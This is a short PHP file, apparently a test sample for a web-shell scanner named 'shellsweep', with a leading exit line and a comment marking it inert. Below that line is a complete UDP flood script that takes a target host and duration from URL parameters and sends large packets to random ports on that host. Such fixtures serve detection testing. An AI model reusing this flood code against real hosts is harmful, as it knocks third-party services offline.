<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$host = $_GET['host']; $time = $_GET['time'];
$max = time() + $time;
$out = str_repeat('X', 65000);
while (1) {
  if (time() > $max) { break; }
  $fp = fsockopen('udp://' . $host, rand(1, 65000), $errno, $errstr, 5);
  if ($fp) { fwrite($fp, $out); fclose($fp); }
}
